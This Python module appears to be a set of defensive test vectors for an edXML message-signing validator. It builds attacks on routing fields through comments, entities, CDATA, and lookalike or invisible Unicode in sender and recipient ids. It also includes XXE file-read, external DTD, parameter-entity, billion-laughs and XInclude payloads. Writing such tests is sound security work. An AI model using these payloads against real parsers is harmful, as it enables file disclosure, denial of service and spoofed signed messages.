"""Comments, entities, CDATA and letters that make two readers see two texts, in all fields that route (28, 30, 33)."""

from __future__ import annotations

from functools import partial
from typing import Final

from lxml import etree

from tests.signing.xml.packages import one
from tests.signing.xml.workshop import Draft
from tests.vectors.attacks.making import POSITION, Attack, Original, edited

FIELDS: Final = {
    "From": "//e:From/e:OrganId",
    "To": "//e:To/e:OrganId",
    "DocumentId": "//e:MessageHeader/e:DocumentId",
    "CodeNumber": "//e:CodeNumber",
    "BussinessDocType": "//e:BussinessDocType",
    "TraceHeader": "//e:TraceHeader/e:OrganId",
    "ManifestContentId": "//e:edXMLManifest/e:Reference/e:ContentId",
    "AttachmentContentId": "//e:Attachment/e:ContentId",
    "AttachmentName": "//e:Attachment/e:AttachmentName",
    "ResponseFor": "//e:ResponseFor/e:OrganId",
    "ResponseForDocumentId": "//e:ResponseFor/e:DocumentId",
    "StatusCode": "//e:StatusCode",
}
"""What decides whom a message is from, whom it goes to, what it is about and which file is which."""

_OF_A_STATUS: Final = frozenset({"ResponseFor", "ResponseForDocumentId", "StatusCode"})


def _message(original: Original, field: str) -> bytes:
    return original.report if field in _OF_A_STATUS else original.letter


def _name(field: str) -> str:
    """The name of the field's element."""
    return FIELDS[field].rpartition(":")[2]


def _place(octets: bytes, field: str) -> tuple[int, int]:
    """Where the field's text begins and ends in the octets."""
    name = _name(field)
    text = one(etree.fromstring(octets), FIELDS[field]).text or ""
    prefix = "" if field.startswith("Attachment") else "edXML:"
    parent = FIELDS[field].split("/")[-2].removeprefix("e:")
    start = octets.index(f"<{prefix}{parent}>".encode()) if parent else 0
    start = octets.index(f"<{prefix}{name}>".encode(), start) + len(f"<{prefix}{name}>")
    end = start + len(text.encode())
    assert octets[start:end] == text.encode()
    return start, end


def _put(octets: bytes, field: str, inserted: bytes) -> bytes:
    """The octets with something in the middle of the field's text."""
    start, end = _place(octets, field)
    middle = (start + end) // 2
    return octets[:middle] + inserted + octets[middle:]


def _exchange(octets: bytes, field: str, text: bytes) -> bytes:
    """The octets with another text in the field."""
    start, end = _place(octets, field)
    return octets[:start] + text + octets[end:]


# ── After signing, or such that the signature stays right ────────────────────────────────────────────────────────────


def comment(original: Original, field: str) -> bytes:
    """Interrupts a text by a comment, which canonical forms leave out: some readers take what is before it."""
    return _put(original.sign(_message(original, field)), field, b"<!-- -->")


def instruction(original: Original, field: str) -> bytes:
    """Interrupts a text by an instruction that is signed with it: some readers take what is before it."""
    return original.draft(Draft(document=_put(_message(original, field), field, b"<?x?>")))


def entity(original: Original, field: str) -> bytes:
    """Writes a text by an entity of a DOCTYPE: a reader that expands it sees another than one that does not."""
    octets = _exchange(original.sign(_message(original, field)), field, b"&kia;")
    return edited(octets, b"<edXML ", f'<!DOCTYPE edXML [<!ENTITY kia "{original.third}">]><edXML '.encode())


def undeclared_entity(original: Original, field: str) -> bytes:
    """Writes part of a text by an entity that nobody declared, which lenient readers drop."""
    return _put(original.sign(_message(original, field)), field, b"&nbsp;")


def cdata_with_markup(original: Original, field: str) -> bytes:
    """Closes and opens the element inside a CDATA section, for readers that look for tags themselves."""
    name = _name(field).encode()
    hidden = b"<![CDATA[</edXML:%b><edXML:%b>%b]]>" % (name, name, original.third.encode())
    return _put(original.sign(_message(original, field)), field, hidden)


def invisible_letter(original: Original, field: str) -> bytes:
    """Adds, after signing and by number, a letter that nobody sees."""
    return _put(original.sign(_message(original, field)), field, b"&#x200B;")


# ── Signed by a sender that means two things ─────────────────────────────────────────────────────────────────────────

ALIKE: Final = {
    "cyrillic": "\u041a07.1",
    "fullwidth": "Ｋ07.1",
    "invisible": "K07\u200b.1",
    "reversed": "\u202eK07.1",
    "composed": "Ḱ07.1",
    "newline": "K07.1\n1",
}
"""Agency ids in letters that look like others, or that nobody sees."""


def signed_cdata_with_markup(original: Original, field: str) -> bytes:
    """Signs an id whose CDATA holds another id between tags."""
    name = _name(field).encode()
    hidden = b"<![CDATA[</edXML:%b><edXML:%b>%b]]>" % (name, name, original.third.encode())
    return original.sign(_put(original.letter, field, hidden))


def signed_recipient(original: Original, letters: str) -> bytes:
    """Signs a recipient in letters that look like another one's."""
    return original.sign(_exchange(original.letter, "To", ALIKE[letters].encode()))


def signed_sender(original: Original, letters: str) -> bytes:
    """Signs a sender in letters that look like another one's."""
    return original.sign(_exchange(original.letter, "From", ALIKE[letters].encode()))


# ── Entities for the parser itself ───────────────────────────────────────────────────────────────────────────────────


def _with_doctype(original: Original, inside: str) -> bytes:
    doctype = original.lure.put(f"<!DOCTYPE edXML {inside}>")
    return edited(original.signed, b"<edXML ", doctype.encode() + b"<edXML ")


def entity_that_reads(original: Original) -> bytes:
    """Has the parser put a file of the machine into the subject."""
    octets = _with_doctype(original, '[<!ENTITY a SYSTEM "file://{file}">]')
    return edited(octets, b"<edXML:Subject>", b"<edXML:Subject>&a;")


def external_dtd(original: Original) -> bytes:
    """Has the parser call an address for its DTD."""
    return _with_doctype(original, 'SYSTEM "http://{address}/x.dtd"')


def parameter_entity(original: Original) -> bytes:
    """Has the parser call an address for a parameter entity."""
    return _with_doctype(original, '[<!ENTITY % a SYSTEM "http://{address}/x"> %a;]')


def attribute_default(original: Original) -> bytes:
    """Gives the root an identifier by a default in a DTD, which some parsers add and some do not."""
    return _with_doctype(original, '[<!ATTLIST edXML Id ID "goi-tin">]')


def billion_laughs(original: Original) -> bytes:
    """Has the parser expand ten thousand million letters."""
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    octets = _with_doctype(original, f'[<!ENTITY a0 "haha">{levels}]')
    return edited(octets, b"<edXML:Subject>", b"<edXML:Subject>&a9;")


def inclusion(original: Original) -> bytes:
    """Has the reader include a file of the machine (XInclude)."""
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>'
    return original.sign(
        edited(original.letter, b"<edXML:CodeNumber>", b"<edXML:CodeNumber>" + original.lure.put(include).encode())
    )


_HELD: Final = (
    ("From", "T.MessageHeader.From.OrganId", "MessageHeader.From.OrganId"),
    ("To", "recipient/none-left", "MessageHeader.To"),
    ("BussinessDocType", "M.Bussiness.BussinessDocType", "TraceHeaderList.Bussiness.BussinessDocType"),
    ("ManifestContentId", "M.Body.Manifest.Reference", "Body.Manifest.Reference[1]"),
    ("AttachmentContentId", "M.Body.Manifest.Reference", "Body.Manifest.Reference[1]"),
    ("AttachmentName", "M.Body.Manifest.Reference.AttachmentName", "Body.Manifest.Reference[1].AttachmentName"),
)
"""What refuses a text that holds tags. Document ids and numbers are opaque: there it is taken for the text it is."""

_COMMENT: Final = "package/comment-in-text"
_DOCTYPE: Final = "package/doctype"

ATTACKS: Final = (
    *(Attack(partial(comment, field=one), _COMMENT, place=_name(one), fools=True) for one in FIELDS),
    *(Attack(partial(instruction, field=one), _COMMENT, place=_name(one), fools=True) for one in FIELDS),
    *(Attack(partial(entity, field=one), _DOCTYPE, place=POSITION) for one in FIELDS),
    *(Attack(partial(undeclared_entity, field=one), "package/not-xml", place=POSITION) for one in FIELDS),
    *(Attack(partial(cdata_with_markup, field=one), "signature/altered") for one in FIELDS),
    *(Attack(partial(invisible_letter, field=one), "signature/altered") for one in FIELDS),
    *(
        Attack(partial(signed_cdata_with_markup, field=field), code, place=place, fools=True)
        for field, code, place in _HELD
    ),
    *(
        Attack(partial(signed_recipient, letters=one), "recipient/none-left", place="MessageHeader.To", fools=True)
        for one in ALIKE
    ),
    *(
        Attack(
            partial(signed_sender, letters=one),
            "T.MessageHeader.From.OrganId",
            place="MessageHeader.From.OrganId",
            fools=True,
        )
        for one in ALIKE
    ),
    Attack(entity_that_reads, _DOCTYPE, place=POSITION),
    Attack(external_dtd, _DOCTYPE, place=POSITION, fools=True),
    Attack(parameter_entity, _DOCTYPE, place=POSITION),
    Attack(attribute_default, _DOCTYPE, place=POSITION, fools=True),
    Attack(billion_laughs, _DOCTYPE, place=POSITION),
    Attack(inclusion, "T.MessageHeader.Code.CodeNumber", place="MessageHeader.Code.CodeNumber", fools=True),
)
